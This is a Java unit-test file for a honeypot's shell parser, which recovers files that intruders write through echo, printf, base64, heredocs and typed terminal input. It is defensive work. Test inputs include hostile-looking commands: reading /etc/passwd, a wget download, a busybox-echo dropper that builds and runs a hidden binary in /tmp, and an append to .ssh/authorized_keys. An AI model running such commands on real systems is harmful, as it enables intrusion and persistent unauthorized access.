package io.honeypool.proxy.capture.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.honeypool.proxy.capture.file.MemoryFiles;
import io.honeypool.proxy.capture.file.MemoryFiles.Found;
import io.honeypool.proxy.events.CaptureEvent.Missing;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellParserTests {

    /** Every byte there is. */
    private static final String BINARY =
            IntStream.range(0, 256).mapToObj(Character::toString).collect(Collectors.joining());

    private final MemoryFiles files = new MemoryFiles();

    static Stream<Arguments> commands() {
        return Stream.of(
                arguments("echo hi > f", "hi\n"),
                arguments("echo -n hi>f", "hi"),
                arguments("echo -ne '\\x7f\\x45LF\\n' > f", "\177ELF\n"),
                arguments("echo -en \"\\x7f\\105\\0105\" > f", "\177EE"),
                arguments("/bin/busybox echo -ne '\\x01\\x02' >> f", "\1\2"),
                arguments("sudo -n echo -n x > f", "x"),
                arguments("printf 'a\\nb\\101%s%%' c > f", "a\nbAc%"),
                arguments("printf '%b' '\\0101' > f", "A"),
                arguments("printf '\\x41\\x42' | tee f >/dev/null", "AB"),
                arguments("echo aGVsbG8= | base64 -d > f", "hello"),
                arguments("echo aGVsbG8K | base64 --decode | tee f", "hello\n"),
                arguments("echo aGVs bG8= | openssl base64 -d > f", "hello"),
                arguments("echo 68656c6c6f | xxd -r -p > f", "hello"),
                arguments("base64 -d > f <<< aGVsbG8=", "hello"),
                arguments("cat <<< hi > f", "hi\n"),
                arguments("echo $'a\\x41\\'b' > f", "aA'b\n"),
                arguments("echo 'a'\"b\"c\\ d > \"./f\"", "abc d\n"),
                arguments("cd /tmp || cd /var; echo -n x > f && chmod +x f", "x"),
                arguments("sh -c 'echo -n x > f'", "x"),
                arguments("echo -n x > f || echo y > f", "x"),
                arguments("echo 2>/dev/null -n x > f 2>&1", "x"),
                arguments("ls; (echo -n x) > /dev/null; echo -n y > f # echo z > f", "y"),
                arguments("echo -n x > g; mv g f", "x"));
    }

    @ParameterizedTest
    @MethodSource("commands")
    void aCommandMakesAFile(String command, String content) {
        ShellParser.command(command, files, true).close();

        assertThat(files.files()).extracting(Found::content).containsExactly(content);
        assertThat(files.files()).extracting(Found::path).containsExactly("f");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ls > f",
                "cat /etc/passwd > f",
                "wget -O- http://192.0.2.1/x > f",
                "dd if=/dev/zero of=f",
                "echo hi",
                "echo hi > /dev/null",
                "> f",
                "cat > /dev/null",
                "",
                "echo 'open"
            })
    void commandsWhoseOutputNobodyKnowsMakeNone(String command) {
        ShellParser.command(command, files, true).close();

        assertThat(files.files()).isEmpty();
        assertThat(files.open()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cat > f",
                "cat>f",
                "cat - > f; chmod +x f; ./f",
                "tee f",
                "tee -- f > /dev/null",
                "dd of=f bs=1M",
                "sudo sh -c \"cat > f\"",
                "mkdir -p /tmp && cat > f"
            })
    void whatIsSentToACommandIsAFile(String command) {
        ShellParser parser = ShellParser.command(command, files, false);
        parser.input(bytes(BINARY));
        parser.input(bytes(BINARY));
        parser.inputEnded();
        parser.close();

        assertThat(files.only()).isEqualTo(BINARY + BINARY);
        assertThat(files.files().getFirst().path()).isEqualTo("f");
    }

    @Test
    void nothingSentIsAnEmptyFile() {
        ShellParser.command("cat > f", files, false).close();

        assertThat(files.only()).isEmpty();
    }

    @Test
    void aScriptThatIsSentToAShellIsAFileOfTheShell() {
        ShellParser parser = ShellParser.command("bash -s", files, false);
        parser.input(bytes("uname -a\n"));
        parser.close();

        assertThat(files.files()).containsExactly(new Found(false, "|bash", "uname -a\n", Set.of()));
    }

    @Test
    void whatOnlyPassesThroughIsNone() {
        ShellParser parser = ShellParser.command("cat", files, false);
        parser.input(bytes("x"));
        parser.close();

        assertThat(files.files()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 3, 4096})
    void base64IsDecodedAsItComes(int pieces) {
        String encoded = Base64.getMimeEncoder().encodeToString(BINARY.getBytes(StandardCharsets.ISO_8859_1));
        ShellParser parser = ShellParser.command("base64 -d > f", files, false);
        for (int i = 0; i < encoded.length(); i += pieces) {
            parser.input(bytes(encoded.substring(i, Math.min(encoded.length(), i + pieces))));
        }
        parser.close();

        assertThat(files.only()).isEqualTo(BINARY);
    }

    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void hereDocumentsAreFiles(boolean terminal) {
        String end = terminal ? "\r" : "\n";
        String encoded = Base64.getMimeEncoder()
                .encodeToString(BINARY.getBytes(StandardCharsets.ISO_8859_1))
                .replace("\r\n", end);
        ShellParser parser = ShellParser.shell(files, terminal);
        type(parser, "base64 -d <<'X' >f" + end + encoded + end + "X" + end);
        type(parser, "cat <<-END > g; cat << E > h" + end + "\t\tone" + end + "END" + end + "two" + end + "E" + end);
        type(parser, "echo -n x > i" + end);
        parser.close();

        assertThat(files.files())
                .containsExactly(
                        new Found(false, "f", BINARY, Set.of()),
                        new Found(false, "g", "one\n", Set.of()),
                        new Found(false, "h", "two\n", Set.of()),
                        new Found(false, "i", "x", Set.of()));
    }

    @Test
    void aHereDocumentMayBePartOfACommand() {
        ShellParser.command("cat > f << EOF\nline\n\nEOF\nchmod +x f", files, false)
                .close();

        assertThat(files.only()).isEqualTo("line\n\n");
    }

    @Test
    void aDropperPutsAFileTogether() {
        ShellParser parser = ShellParser.shell(files, true);
        type(parser, ">/tmp/.x && cd /tmp/; >/var/.x && cd /var/\r\0");
        type(parser, "chmod 777 .x\r\n");
        StringBuilder hex = new StringBuilder();
        BINARY.repeat(8).chars().forEach(c -> hex.append(String.format("\\x%02x", c)));
        for (int i = 0; i < hex.length(); i += 512) {
            String piece = hex.substring(i, Math.min(hex.length(), i + 512));
            type(
                    parser,
                    "/bin/busybox echo -ne \"" + piece + "\" >" + (i == 0 ? "" : ">") + " .x; /bin/busybox OK\r\n");
        }
        type(parser, "./.x\r\n");

        assertThat(files.only()).isEqualTo(BINARY.repeat(8));
        parser.close();
        assertThat(files.open()).isZero();
    }

    @Test
    void whatIsTypedForACommandEndsWithItsKey() {
        ShellParser parser = ShellParser.shell(files, true);
        type(parser, "cat > f\rone\rtwo\rthx\177re\004\004echo -n y > g\r");
        type(parser, "cat > h\rgiven up\003echo -n z > i\r");
        parser.close();

        assertThat(files.files())
                .containsExactly(
                        new Found(false, "f", "one\ntwo\nthre", Set.of()),
                        new Found(false, "g", "y", Set.of()),
                        new Found(false, "h", "", Set.of()),
                        new Found(false, "i", "z", Set.of()));
    }

    @Test
    void keysAreApplied() {
        ShellParser parser = ShellParser.shell(files, true);
        type(parser, "rm\025ecko\177\177ho -n wrong\027x > f\r");
        type(parser, "\033[200~echo -n y > g\033[201~\r");
        parser.close();

        assertThat(files.files()).extracting(Found::content).containsExactly("x", "y");
    }

    @Test
    void binaryContentOfAShellWithoutTerminalMayHaveLongLines() {
        String content = "x".repeat(1 << 20);
        ShellParser parser = ShellParser.shell(files, false);
        type(parser, "cat > f\n" + content);
        parser.inputEnded();
        parser.close();

        assertThat(files.only()).isEqualTo(content);
    }

    @Test
    void quotesMayGoOverLines() {
        ShellParser parser = ShellParser.shell(files, true);
        type(parser, "echo 'a\rb' > f\rprintf x\\\ry > g\r");
        parser.close();

        assertThat(files.files()).extracting(Found::content).containsExactly("a\nb\n", "xy");
    }

    @Test
    void whatAnUnknownFilterMakesIsMissing() {
        ShellParser.command("echo H4sI | base64 -d | gunzip > f", files, false).close();

        assertThat(files.files()).containsExactly(new Found(false, "f", "\037\213\010", Set.of(Missing.FILTER)));
    }

    @Test
    void whatWasThereBeforeIsMissing() {
        ShellParser.command("echo ssh-ed25519 > /dev/null; echo k >> .ssh/authorized_keys", files, false)
                .close();

        assertThat(files.files())
                .containsExactly(new Found(false, ".ssh/authorized_keys", "k\n", Set.of(Missing.REST)));
    }

    @Test
    void linesWithoutEndAndManyFilesAreBounded() {
        ShellParser parser = ShellParser.shell(files, true);
        type(parser, "echo " + "x".repeat(300_000) + " > f\r");
        for (int i = 0; i < 1000; i++) {
            type(parser, "echo -n x > f" + i + "\r");
            assertThat(files.open()).isLessThanOrEqualTo(16);
        }
        type(parser, "echo 'never closed\r" + "y".repeat(1000).concat("\r").repeat(600));
        parser.close();

        assertThat(files.files()).hasSize(1000);
        assertThat(files.told()).containsExactly("too-much ", "too-much ");
    }

    private static void type(ShellParser parser, String text) {
        parser.input(bytes(text));
    }

    private static ByteBuffer bytes(String text) {
        return ByteBuffer.wrap(text.getBytes(StandardCharsets.ISO_8859_1));
    }
}
